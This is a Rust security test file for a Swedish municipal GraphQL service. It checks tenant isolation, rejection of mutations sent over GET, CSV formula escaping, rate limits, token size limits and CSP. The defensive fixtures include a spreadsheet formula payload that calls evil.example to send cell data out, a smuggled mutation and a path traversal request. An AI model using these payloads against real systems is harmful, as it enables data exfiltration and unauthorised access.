//! The service's boundary as an attacker meets it: portals that try to read past the
//! catalogue, audit events and figures that would tell of hidden records, mutations smuggled
//! over GET, formulas in the committee's CSV, the file endpoint's rate limit, oversized
//! tokens, and a GraphQL layer that cannot reach the database except through the services.
use serde_json::{Value, json};

use crate::{
    both_backends,
    docs::create,
    docs::inventory::{ADD_INTEGRATION, PRODUCT, VENDOR, register},
    helpers::{Backend, TestApp},
};

async fn vendor_and_product(app: &TestApp) -> (String, String) {
    let orebro = app.as_kommun("1880").editor();
    let d = orebro
        .ok(
            VENDOR,
            json!({"input": {"name": "Skolsystem AB", "orgNumber": "5566778899"}}),
        )
        .await;
    let v = d["createVendor"]["vendor"]["id"].as_str().unwrap().to_owned();
    let d = orebro
        .ok(
            PRODUCT,
            json!({"input": {"vendorId": v, "name": "Elevkoll", "category": "SCHOOL"}}),
        )
        .await;
    (
        v,
        d["createProduct"]["product"]["id"].as_str().unwrap().to_owned(),
    )
}

async fn portals_read_the_catalogue_and_nothing_else(app: TestApp) {
    let (vendor, product) = vendor_and_product(&app).await;
    let orebro = app.as_kommun("1880").editor();
    let system = register(&orebro, &product, json!({})).await;
    let portal = app.as_kommun("1880").integration();
    let fields = [
        "{ vendors { edges { node { id } } } }",
        "{ products { edges { node { id } } } }",
        "{ productUsage { totalMunicipalities } }",
        "{ auditEvents { totalCount } }",
        "{ eServiceProjects { totalCount } }",
        "{ sourcingEvaluations { totalCount } }",
        "{ systemInstances { edges { node { id } } } }",
        r#"{ systemMap(kommun: "1880") { systems { id } } }"#,
        "{ expiringContracts { id } }",
        "{ sensitiveThirdCountrySystems { id } }",
        "{ vendorInitiatives { edges { node { id } } } }",
        "{ counties { code } }",
        "{ municipalities { code } }",
        r#"{ municipality(code: "1880") { name } }"#,
        r#"{ committeeReport(county: "18", from: "2026-01-01", to: "2026-12-31") { county { code } } }"#,
        "{ viewer { sub } }",
        "{ governingDocuments { edges { node { id } } } }",
        "{ roleHolders { edges { node { id } } } }",
        r#"{ auditReadiness(kommun: "1880") { asOf } }"#,
        r#"{ keyPersonRisk(kommun: "1880") { keyPersonCount } }"#,
        "{ keyPersonRiskByMunicipality { keyPersonCount } }",
        "{ systemCostTotals { annualCost } }",
        "{ auditThresholds(county: \"18\") { shareMeets } }",
        "{ auditChain(county: \"18\") { headHash } }",
        "{ retentionPeriods(county: \"18\") { years } }",
    ]
    .map(str::to_owned)
    .into_iter()
    .chain([format!(
        r#"{{ costComparison(productId: "{product}") {{ hiddenCount }} }}"#
    )]);
    for q in fields {
        let q = q.as_str();
        let r = portal.gql(q, json!({})).await;
        r.expect_code("FORBIDDEN");
        assert!(
            r.body["data"].is_null() || r.body["data"].as_object().unwrap().values().all(Value::is_null),
            "{q}: {}",
            r.body
        );
    }
    for id in [&vendor, &product, &system] {
        portal
            .gql("query($id: ID!) { node(id: $id) { id } }", json!({"id": id}))
            .await
            .expect_code("FORBIDDEN");
    }
    // The catalogue answers; a portal's own roles combined with a kommun role read as that role.
    portal
        .ok("{ publishedEServices { totalCount } }", json!({}))
        .await;
    let both = samverkan::auth::mint_dev_token(
        &app.secret,
        "p",
        "1880",
        &["integration".into(), "viewer".into()],
        60,
    )
    .unwrap();
    let d = app
        .with_token(both)
        .ok("{ vendors { edges { node { id } } } }", json!({}))
        .await;
    assert_eq!(d["vendors"]["edges"].as_array().unwrap().len(), 1);
}
both_backends!(portals_read_the_catalogue_and_nothing_else);

async fn an_audit_event_shows_only_if_every_record_it_names_may_be_seen(app: TestApp) {
    let (_, product) = vendor_and_product(&app).await;
    let lekeberg = app.as_kommun("1814").editor();
    let county = register(&lekeberg, &product, json!({"visibility": "COUNTY"})).await;
    let private = register(&lekeberg, &product, json!({"visibility": "PRIVATE"})).await;
    lekeberg
        .ok(ADD_INTEGRATION, json!({"input": {"fromInstanceId": county, "toInstanceId": private, "protocol": "SFTP", "description": "Löner till banken"}}))
        .await;
    let q = r#"query($id: ID!) { auditEvents(filter: {recordId: $id}, first: 50) { totalCount edges { node { action after } } } }"#;
    let actions = |d: &Value| -> Vec<String> {
        d["auditEvents"]["edges"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["node"]["action"].as_str().unwrap().to_owned())
            .collect()
    };
    // The owner sees the integration in its COUNTY system's history.
    let own = lekeberg.ok(q, json!({"id": county})).await;
    assert!(actions(&own).contains(&"addIntegration".to_owned()), "{own}");
    // Another kommun sees the COUNTY system's own history, never the integration that names
    // the PRIVATE system, nor does it count it.
    for other in [
        app.as_kommun("1880").editor(),
        app.as_kommun("1880").namnd(),
        app.as_kommun("1881").viewer(),
    ] {
        let d = other.ok(q, json!({"id": county})).await;
        assert_eq!(actions(&d), vec!["registerSystemInstance"], "{d}");
        assert_eq!(d["auditEvents"]["totalCount"], 1);
        assert!(
            !d.to_string().contains(&private),
            "the PRIVATE system's id leaks: {d}"
        );
        let all = other
            .ok(
                "{ auditEvents(first: 100) { edges { node { action after } } } }",
                json!({}),
            )
            .await;
        assert!(!all.to_string().contains("Löner till banken"), "{all}");
    }
}
both_backends!(an_audit_event_shows_only_if_every_record_it_names_may_be_seen);

#[tokio::test]
async fn no_mutation_runs_over_get_whatever_its_name() {
    let app = TestApp::spawn(Backend::Sqlite).await.unwrap();
    let token = samverkan::auth::mint_dev_token(&app.secret, "u", "1880", &["editor".into()], 60).unwrap();
    let create = r#"mutation viaGet { createVendor(input: {name: "Smugglad AB", orgNumber: "5566778899"}) { vendor { id } } }"#;
    let mixed = format!("query harmless {{ __typename }} {create}");
    for (query, op) in [
        (create, None),
        (create, Some("viaGet")),
        (mixed.as_str(), Some("harmless")),
        (mixed.as_str(), Some("viaGet")),
    ] {
        let mut params = vec![("query", query)];
        if let Some(op) = op {
            params.push(("operationName", op));
        }
        let r = app
            .get("/graphql")
            .query(&params)
            .bearer_auth(&token)
            .header("accept", "application/json")
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 405, "{query} as {op:?}");
        assert_eq!(r.headers()["allow"], "POST");
    }
    let d = app
        .with_token(token)
        .ok("{ vendors { edges { node { id } } } }", json!({}))
        .await;
    assert!(
        d["vendors"]["edges"].as_array().unwrap().is_empty(),
        "nothing was created"
    );
}

async fn the_committee_csv_shows_formulas_as_text(app: TestApp) {
    let orebro = app.as_kommun("1880").editor();
    let titles = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Öppna\")",
        "+46 tjänst",
        "-2+3",
        "@SUM(A1:A9)",
        "Vanlig titel",
    ];
    for t in titles {
        create(&orebro, t, "COUNTY", "100").await;
    }
    let token = samverkan::auth::mint_dev_token(&app.secret, "gn", "1880", &["namnd".into()], 60).unwrap();
    let res = app
        .get("/reports/18/committee.csv?from=2026-01-01&to=2027-12-31")
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let bytes = res.bytes().await.unwrap();
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let cells: Vec<String> = csv::ReaderBuilder::new()
        .delimiter(b';')
        .flexible(true)
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    for t in titles {
        let expected = if t.starts_with(['=', '+', '-', '@']) {
            format!("'{t}")
        } else {
            t.to_owned()
        };
        assert!(cells.contains(&expected), "{t} should read back as {expected}");
        if expected != t {
            assert!(!cells.iter().any(|c| c == t), "{t} is written as a live formula");
        }
    }
}
both_backends!(the_committee_csv_shows_formulas_as_text);

#[tokio::test]
async fn the_csv_endpoint_shares_the_rate_limit_and_answers_429_with_retry_after() {
    let app = TestApp::spawn_with(Backend::Sqlite, |s| s.limits.requests_per_minute = 3)
        .await
        .unwrap();
    let token = samverkan::auth::mint_dev_token(&app.secret, "gn", "1880", &["namnd".into()], 60).unwrap();
    let csv = || {
        app.get("/reports/18/committee.csv?from=2026-01-01&to=2026-12-31")
            .bearer_auth(&token)
            .send()
    };
    assert_eq!(csv().await.unwrap().status(), 200);
    app.with_token(token.clone())
        .ok("{ viewer { sub } }", json!({}))
        .await;
    assert_eq!(csv().await.unwrap().status(), 200);
    let r = csv().await.unwrap();
    assert_eq!(r.status(), 429);
    assert!(
        r.headers()["retry-after"]
            .to_str()
            .unwrap()
            .parse::<u64>()
            .unwrap()
            >= 1
    );
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["errors"][0]["extensions"]["code"], "RATE_LIMITED");
    // Guessing tokens is not free either: refused tokens count against the client address.
    let mut statuses = Vec::new();
    for i in 0..5 {
        let r = app
            .with_token(format!("not.a.token{i}"))
            .gql("{ viewer { sub } }", json!({}))
            .await;
        statuses.push(r.status);
    }
    assert_eq!(statuses, vec![401, 401, 401, 429, 429]);
}

#[tokio::test]
async fn a_token_over_8_kb_is_refused_before_it_is_decoded() {
    let app = TestApp::spawn(Backend::Sqlite).await.unwrap();
    let mut claims = app.dev_claims("1880", &["viewer"]);
    claims["name"] = json!("x".repeat(9_000));
    let big = app.sign_dev(&claims);
    let r = app.with_token(big).gql("{ viewer { sub } }", json!({})).await;
    assert_eq!(r.status, 401);
    assert_eq!(r.reason(), Some("TOKEN_TOO_LARGE"));
    // The same claims with a name of ordinary length pass.
    claims["name"] = json!("Anna Andersson");
    app.with_token(app.sign_dev(&claims))
        .ok("{ viewer { sub } }", json!({}))
        .await;
}

#[tokio::test]
async fn the_explorer_can_be_turned_off() {
    let off = TestApp::spawn_with(Backend::Sqlite, |s| s.explorer = Some(false))
        .await
        .unwrap();
    let r = off
        .get("/graphql")
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 404);
    let on = TestApp::spawn(Backend::Sqlite).await.unwrap();
    let r = on
        .get("/graphql")
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "on in development");
    let r = off.get("/explorer/graphiql.min.js").send().await.unwrap();
    assert_eq!(r.status(), 404, "its assets are off with it");
}

/// The explorer works without internet: every file the page loads is served by the service
/// itself, and a Content-Security-Policy keeps it that way. (`scripts/browser-test.sh` drives
/// the page in Chromium.)
#[tokio::test]
async fn the_explorer_page_loads_only_the_services_own_files() {
    let app = TestApp::spawn(Backend::Sqlite).await.unwrap();
    let r = app
        .get("/graphql")
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let csp = r.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        csp.contains("default-src 'none'") && csp.contains("script-src 'self'"),
        "{csp}"
    );
    let page = r.text().await.unwrap();
    let urls: Vec<&str> = page
        .split(['"', '\''])
        .filter(|t| t.contains("://") || t.starts_with("//"))
        .collect();
    assert!(urls.is_empty(), "the page names third-party URLs: {urls:?}");
    let assets: Vec<&str> = page
        .split(['"', '\''])
        .filter(|t| t.starts_with("/explorer/"))
        .collect();
    assert_eq!(assets.len(), 6, "{page}");
    for a in assets {
        let r = app.get(a).send().await.unwrap();
        assert_eq!(r.status(), 200, "{a}");
        let ct = r.headers()["content-type"].to_str().unwrap().to_owned();
        let expected = if a.contains(".css") {
            "text/css"
        } else {
            "text/javascript"
        };
        assert!(ct.starts_with(expected), "{a}: {ct}");
        assert!(r.bytes().await.unwrap().len() > 50, "{a} is empty");
    }
    assert_eq!(
        app.get("/explorer/../Cargo.toml").send().await.unwrap().status(),
        404
    );
    assert_eq!(
        app.get("/explorer/nothing.js").send().await.unwrap().status(),
        404
    );
}

/// Every file below `dir` with its text.
fn sources(dir: &std::path::Path) -> Vec<(std::path::PathBuf, String)> {
    let mut out = Vec::new();
    let mut dirs = vec![dir.to_path_buf()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                dirs.push(path);
            } else {
                let text = std::fs::read_to_string(&path).unwrap();
                out.push((path, text));
            }
        }
    }
    out
}

/// The GraphQL layer reaches the database only through the services: it never names the
/// ORM or a connection, so a resolver cannot read across tenants or write unaudited.
#[test]
fn the_graphql_layer_never_names_the_database() {
    let mut checked = 0;
    for (path, text) in sources(&std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../api/src/graphql"))
    {
        for banned in [
            "sea_orm",
            "DatabaseConnection",
            "DatabaseTransaction",
            ".conn()",
            "sqlx",
        ] {
            assert!(!text.contains(banned), "{} names {banned}", path.display());
        }
        checked += 1;
    }
    assert!(checked > 5, "read the graphql modules");
}

/// Inside the service layer only `service::audit` holds a connection that can write, and a
/// write needs a `Grant`, which only the authorization check makes. The compiler holds both
/// (the connection is private to `service::audit`, `Grant`'s field is private to
/// `audit/write_tx.rs`, and `Reads`, the handle every other module gets, has no `begin`);
/// this test keeps those doors from being reopened in the source, and
/// `service::audit::store`'s unit test shows a write sent through `Reads` anyway reaches nothing.
#[test]
fn the_service_layer_writes_only_through_the_audited_path() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../api/src");
    let mut checked = 0;
    for (path, text) in sources(&root.join("service")) {
        let name = path
            .strip_prefix(&root)
            .unwrap()
            .to_string_lossy()
            .replace('\\', "/");
        let audit = name.starts_with("service/audit/");
        // Where each door may stand: the grant is made in one place, the writable
        // connection is taken only by the audited writes and the commit.
        for (door, allowed) in [
            ("Grant {", name == "service/audit/write_tx.rs"),
            (
                "authz::may(",
                name == "service/audit/write_tx.rs" || name == "service/mod.rs",
            ),
            (".writable()", audit),
            ("begin_with_options", name == "service/audit/write_tx.rs"),
            (".begin()", false),
            ("TransactionTrait", name == "service/audit/write_tx.rs"),
            ("Changeable::new(", name == "service/audit/mod.rs"),
            ("DatabaseTransaction", audit),
            ("sqlx::query", false),
            // The one write outside the audited transaction: the cost budgets' ledger, which
            // is operational state in a table of its own, opened once by `Services::new`.
            ("cost_budget", name == "service/budget.rs"),
            ("Ledger::shared(", name == "service/mod.rs"),
        ] {
            assert!(allowed || !text.contains(door), "{name} names {door}");
        }
        checked += 1;
    }
    assert!(checked > 20, "read the service modules");
}

async fn committee_decides_only_county_shared_tollgates_whatever_else_it_holds(app: TestApp) {
    // Finding 1 of the attacker's run, as it was reported.
    let lekeberg = app.as_kommun("1814").editor_admin();
    let (shared, v) = create(&lekeberg, "Gemensam", "PARTICIPANTS", "100").await;
    crate::docs::invite(&lekeberg, &shared, "1860", "PARTICIPANT").await;
    let namnd_viewer = |kommun: &str| {
        let t = samverkan::auth::mint_dev_token(
            &app.secret,
            "gn",
            kommun,
            &["namnd".into(), "viewer".into()],
            60,
        )
        .unwrap();
        app.with_token(t)
    };
    let cancel = r#"mutation($input: CancelEServiceProjectInput!) { cancelEServiceProject(input: $input) { project { phase } } }"#;
    let decision = crate::docs::decision("Avbryts");
    namnd_viewer("1860")
        .gql(
            cancel,
            json!({"input": {"id": shared, "version": v, "decision": decision}}),
        )
        .await
        .expect_code("FORBIDDEN");
    let (private, v) = create(&lekeberg, "Eget", "PRIVATE", "100").await;
    let advance = crate::docs::ADVANCE;
    namnd_viewer("1814")
        .gql(
            advance,
            json!({"input": {"id": private, "version": v, "toPhase": "PRE_STUDY", "decision": decision}}),
        )
        .await
        .expect_code("FORBIDDEN");
    let (county, v) = create(&lekeberg, "Länet", "COUNTY", "100").await;
    namnd_viewer("1860")
        .ok(
            advance,
            json!({"input": {"id": county, "version": v, "toPhase": "PRE_STUDY", "decision": decision}}),
        )
        .await;
}
both_backends!(committee_decides_only_county_shared_tollgates_whatever_else_it_holds);
